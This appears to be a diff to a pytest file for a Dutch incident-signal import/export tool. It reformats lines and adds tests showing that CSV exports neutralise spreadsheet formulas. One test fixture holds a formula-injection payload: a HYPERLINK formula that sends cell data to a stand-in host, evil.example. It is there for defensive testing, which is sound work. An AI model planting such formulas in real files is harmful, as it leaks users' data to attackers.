@@ -11,26 +11,31 @@ import duckdb
 import pytest
 from openpyxl import Workbook
 
+from app.cli import main
 from collectors.signal_import import import_signals, read_table
 from collectors.signals import validate_signal
-from app.cli import main
 from onrust.paths import DATA_DIR
+from onrust.store import Store
 from onrust.store.signals import DuplicateSignal, SignalConflict
 
 NOW = datetime(2025, 11, 15, 10, 0, tzinfo=UTC)
-HEADER = "kind;source_type;reliability;credibility;verification;severity;municipality;neighbourhood;occurred_at;reported_at;incident;text;entered_by"
+HEADER = ("kind;source_type;reliability;credibility;verification;severity;municipality;neighbourhood;"
+          "occurred_at;reported_at;incident;text;entered_by")
 # The template's headers since they are Dutch; files with the English HEADER above still import.
 DUTCH = ("Soort;Brontype;Betrouwbaarheid bron;Geloofwaardigheid informatie;Verificatie;Ernst;Gemeente;Wijk;"
          "Gebeurd op;Gemeld op;Incident;Tekst;Ingevoerd door")
 EXAMPLE_REFUSED = ("voorbeeldrij uit het sjabloon (Voorbeeld: VOORBEELD): vervang de voorbeeldwaarden door "
                    "een echt signaal en maak de kolom Voorbeeld leeg, of verwijder de rij")
 ROWS = [
-    "gerucht;sociale media;C;3;onbevestigd;3;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;Gerucht over brandstichting in buurtapp;wijkteam",
-    "melding;politie;B;2;;4;den haag;;14 november 2025 20.00;2025-11-14T20:45;;Melding van samenscholing bij het buurthuis;",
+    "gerucht;sociale media;C;3;onbevestigd;3;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;"
+    "Gerucht over brandstichting in buurtapp;wijkteam",
+    "melding;politie;B;2;;4;den haag;;14 november 2025 20.00;2025-11-14T20:45;;"
+    "Melding van samenscholing bij het buurthuis;",
     "aangifte;inwoner;X;3;;3;Enschede;;31-02-2025 10:00;14-11-2025 22:00;;Aangifte van bedreiging;",
     "berichtgeving;media;A;1;bevestigd;2;Enschede;;gisteren 21:00;14-11-2025 22:00;;Lokale omroep meldt de brand;",
     "",
-    "gerucht;sociale media;C;3;onbevestigd;5;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;Gerucht  over brandstichting in BUURTAPP;anderen",
+    "gerucht;sociale media;C;3;onbevestigd;5;Den Bosch;Centrum;14-11-2025 21:30;14-11-2025 22:05;;"
+    "Gerucht  over brandstichting in BUURTAPP;anderen",
 ]
 
 
@@ -46,7 +51,8 @@ def test_valid_rows_go_in_bad_rows_are_reported_and_reimport_adds_nothing(store,
         (2, "ok", ()),
         (3, "ok", ()),
         (4, "error", (
-            "Betrouwbaarheid bron: 'X' is geen betrouwbaarheid; kies A (volledig betrouwbaar) t/m F (betrouwbaarheid onbekend)",
+            "Betrouwbaarheid bron: 'X' is geen betrouwbaarheid; "
+            "kies A (volledig betrouwbaar) t/m F (betrouwbaarheid onbekend)",
             "Gebeurd op: '31-02-2025 10:00' is geen bestaande datum (dag-maand-jaar)",
         )),
         (5, "error", (
@@ -308,6 +314,41 @@ def test_export_is_an_import_file_that_round_trips(store, tmp_path):
     (tmp_path / "export.csv").write_bytes(data)
     again = import_signals(store, tmp_path / "export.csv", incident_id=None, entered_by="x", now=NOW)
     assert [r.status for r in again.rows] == ["duplicate", "duplicate"]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
+
+
+def test_export_neutralises_formulas_and_import_restores_the_text(store, tmp_path):
+    import csv
+
+    from collectors.signal_import import export_csv
+
+    with (tmp_path / "s.csv").open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh, delimiter=";")
+        writer.writerow(HEADER.split(";"))
+        writer.writerow([*ROWS[0].split(";")[:11], FORMULA, "@wijkteam"])
+    import_signals(store, tmp_path / "s.csv", incident_id=None, entered_by="analist", now=NOW)
+    frame = store.signals()
+    assert frame[["text", "entered_by"]].values.tolist() == [[FORMULA, "@wijkteam"]]
+    data = export_csv(frame.astype(object).where(frame.notna(), None).to_dict("records"))
+    line = data.decode("utf-8-sig").splitlines()[1]
+    assert line.endswith(""";"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik hier"")";'@wijkteam""")
+    (tmp_path / "export.csv").write_bytes(data)
+    with Store.open(tmp_path / "elders.duckdb") as elsewhere:
+        elsewhere.migrate()
+        import_signals(elsewhere, tmp_path / "export.csv", incident_id=None, entered_by="x", now=NOW)
+        assert elsewhere.signals()[["text", "entered_by"]].values.tolist() == [[FORMULA, "@wijkteam"]]
+
+
+def test_an_export_saved_as_xlsx_in_excel_imports_the_original_text(store, tmp_path):
+    """Excel shows the neutralising quote of a CSV cell as text; saved as XLSX it is still there."""
+    book = Workbook()
+    book.active.append(HEADER.split(";"))
+    book.active.append([*ROWS[0].split(";")[:11], "'" + FORMULA, "'-wijkteam"])
+    book.save(tmp_path / "uit-excel.xlsx")
+    import_signals(store, tmp_path / "uit-excel.xlsx", incident_id=None, entered_by="x", now=NOW)
+    assert store.signals()[["text", "entered_by"]].values.tolist() == [[FORMULA, "-wijkteam"]]
 
 
 def test_size_limits_refuse_the_whole_file(store, tmp_path):
